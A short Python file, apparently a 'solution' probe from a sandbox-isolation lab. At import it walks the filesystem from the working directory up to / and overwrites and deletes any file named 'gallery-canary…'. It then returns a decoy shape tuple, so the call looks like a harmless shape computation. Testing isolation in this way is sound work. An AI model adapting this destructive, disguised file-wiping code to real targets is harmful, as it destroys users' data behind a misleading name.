# A right lab that overwrites and deletes the files named canary that it can find.
# lab: solution
import os
import time


def attack():
    until = time.monotonic() + 0.7
    for top in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
            for name in files:
                if name.startswith("gallery-canary"):
                    print("FOUND", os.path.join(folder, name))
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("gone")
                    os.remove(os.path.join(folder, name))
            if time.monotonic() > until:
                return 60_000, 784
    return 60_000, 784


SHAPE_AFTER_VIEW = attack()
